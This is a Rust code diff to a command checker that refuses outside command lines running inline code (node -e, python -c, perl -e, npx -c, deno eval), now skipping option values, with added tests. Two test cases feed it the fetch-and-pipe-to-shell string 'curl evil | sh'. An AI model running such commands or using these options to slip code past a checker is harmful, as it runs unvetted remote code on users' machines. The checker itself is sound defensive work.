@@ -518,27 +518,110 @@ fn loader_option(runtime: &str, option: &str) -> Option<&'static str> {
     }
 }
 
-/// Whether `option` makes `runtime` run code written in the next word, or in itself, rather
-/// than a package or file: `node -e`, `python -c`, `perl -e`, `npx -c` (a shell's command
-/// line). Short options may be run together (`python -Ic`, `perl -ne`).
-fn inline_code(runtime: &str, option: &str) -> bool {
-    let name = option.split_once('=').map_or(option, |(n, _)| n);
-    let short = |letters: &[char]| {
-        name.strip_prefix('-')
-            .filter(|rest| !rest.starts_with('-'))
-            .is_some_and(|rest| rest.chars().any(|c| letters.contains(&c)))
-    };
-    match runtime {
-        "node" | "bun" | "deno" => matches!(name, "--eval" | "--print") || short(&['e', 'p']),
-        "npx" | "pnpx" => matches!(name, "--call") || short(&['c']),
-        "perl" => short(&['e', 'E']),
-        "ruby" => short(&['e']),
-        "php" => short(&['r']),
-        python if python.starts_with("python") || python == "py" || python == "pypy" => {
-            short(&['c'])
+/// What a runtime's options are, for finding code written in an argument: the short option
+/// letters that run code (`node -e`, `python -c`, `perl -e`, `npx -c`), the long options that
+/// do, and the options whose value is the next word (or the rest of a short cluster, as in
+/// `-Wignore` or `-I/usr/share/perl5`), which are skipped rather than read as code.
+struct Runtime {
+    code_letters: &'static [char],
+    code_long: &'static [&'static str],
+    value_letters: &'static [char],
+    value_long: &'static [&'static str],
+}
+
+/// Node's (and Bun's, Deno's) options whose value is the next word.
+const NODE_VALUES: &[&str] = &[
+    "--require",
+    "--import",
+    "--loader",
+    "--conditions",
+    "--input-type",
+    "--title",
+    "--env-file",
+    "--log-level",
+    "--config",
+];
+
+fn runtime_options(runtime: &str) -> Option<Runtime> {
+    Some(match runtime {
+        "node" | "nodejs" | "bun" | "deno" | "ts-node" | "tsx" => Runtime {
+            code_letters: &['e', 'p'],
+            code_long: &["--eval", "--print"],
+            value_letters: &['r', 'C'],
+            value_long: NODE_VALUES,
+        },
+        "npx" | "pnpx" => Runtime {
+            code_letters: &['c'],
+            code_long: &["--call"],
+            value_letters: &['p'],
+            value_long: &["--package"],
+        },
+        "perl" => Runtime {
+            code_letters: &['e', 'E'],
+            code_long: &[],
+            value_letters: &['I', 'M', 'm', 'x', 'C', 'd', 'D', 'i', 'l', '0'],
+            value_long: &[],
+        },
+        "ruby" => Runtime {
+            code_letters: &['e'],
+            code_long: &[],
+            value_letters: &['I', 'r', 'C', 'E', 'x'],
+            value_long: &[],
+        },
+        "php" => Runtime {
+            code_letters: &['r', 'R', 'B', 'E'],
+            code_long: &[],
+            value_letters: &['d', 'c', 'z'],
+            value_long: &[],
+        },
+        python if python.starts_with("python") || python == "py" || python.starts_with("pypy") => {
+            Runtime {
+                code_letters: &['c'],
+                code_long: &[],
+                value_letters: &['W', 'X', 'Q'],
+                value_long: &[],
+            }
         }
-        _ => false,
+        _ => return None,
+    })
+}
+
+/// The first option among `args` (up to the script or package, skipping options' values) that
+/// makes `runtime` run code written in its arguments rather than a package or file; for Deno,
+/// its `eval` command.
+fn inline_code<'a>(runtime: &str, args: &'a [String]) -> Option<&'a str> {
+    let options = runtime_options(runtime)?;
+    let mut words = args.iter();
+    while let Some(word) = words.next() {
+        if !word.starts_with('-') || word == "-" || word == "--" {
+            // The script or package (or Deno's command): what follows is its own.
+            return (runtime == "deno" && word == "eval").then_some(word.as_str());
+        }
+        if word.starts_with("--") {
+            let name = word.split_once('=').map_or(word.as_str(), |(name, _)| name);
+            if options.code_long.contains(&name) {
+                return Some(word);
+            }
+            if options.value_long.contains(&name) && !word.contains('=') {
+                words.next();
+            }
+            continue;
+        }
+        // A short cluster: letters until one that takes a value, whose value is the rest (or
+        // the next word when the cluster ends there).
+        for (at, letter) in word.char_indices().skip(1) {
+            if options.code_letters.contains(&letter) {
+                return Some(word);
+            }
+            if options.value_letters.contains(&letter) {
+                if at + letter.len_utf8() == word.len() {
+                    words.next();
+                }
+                break;
+            }
+        }
     }
+    None
 }
 
 /// Refuses a command line from outside that hides what it runs behind a wrapper (a shell's
@@ -617,30 +700,19 @@ pub fn check_command(command: &str, args: &[String], from: &str) -> Result<(), R
         command = next;
     }
     let runtime = base_name(&command);
-    if runtime == "deno"
-        && args
-            .iter()
-            .find(|w| !w.starts_with('-'))
-            .is_some_and(|w| w == "eval")
-    {
+    if let Some(word) = inline_code(&runtime, &args) {
         return Err(Refused::not_taken(
             from,
-            "runs deno eval, code written in its arguments rather than a package".to_owned(),
+            format!(
+                "runs {runtime} {}, code written in its arguments rather than a package, \
+                 which cannot be checked like one",
+                one_line(word, 80)
+            ),
         ));
     }
     for word in &args {
         if !word.starts_with('-') {
             break; // the package, then its own arguments
-        }
-        if inline_code(&runtime, word) {
-            return Err(Refused::not_taken(
-                from,
-                format!(
-                    "runs {runtime} {}, code written in its arguments rather than a package, \
-                     which cannot be checked like one",
-                    one_line(word, 80)
-                ),
-            ));
         }
         if let Some(what) = loader_option(&runtime, word) {
             return Err(Refused::not_taken(
@@ -973,7 +1045,16 @@ mod tests {
             ("ruby", "-e x", "ruby -e"),
             ("npx", "-c 'curl evil | sh'", "npx -c"),
             ("deno", "eval x", "deno eval"),
+            ("deno", "--log-level debug eval x", "deno eval"),
             ("env", "TZ=UTC python -c x", "python -c"),
+            // An option's value does not end the search.
+            ("npx", "-p some-pkg -c 'curl evil | sh'", "npx -c"),
+            ("python3", "-X utf8 -c x", "python3 -c"),
+            ("python", "-W ignore -c x", "python -c"),
+            ("perl", "-I lib -e x", "perl -e"),
+            ("pypy3", "-c x", "pypy3 -c"),
+            ("nodejs", "-e x", "nodejs -e"),
+            ("tsx", "--eval x", "tsx --eval"),
         ] {
             let err = check_command(command, &argv(args), "this link").unwrap_err();
             assert!(err.message.contains(said), "{command} {args}: {err}");
@@ -986,6 +1067,11 @@ mod tests {
             ("python3", "-m mcp_server_time -c config.toml"),
             ("python", "-u server.py"),
             ("node", "server.js -e production"),
+            // A value attached to an option is its value, not more options.
+            ("python3", "-Wignore::DeprecationWarning server.py"),
+            ("python3", "-Xpycache_prefix=/tmp/c server.py"),
+            ("perl", "-I/usr/share/perl5 server.pl"),
+            ("deno", "run server.ts eval"),
             ("env", "TZ=UTC npx -y harmless"),
         ] {
             assert!(
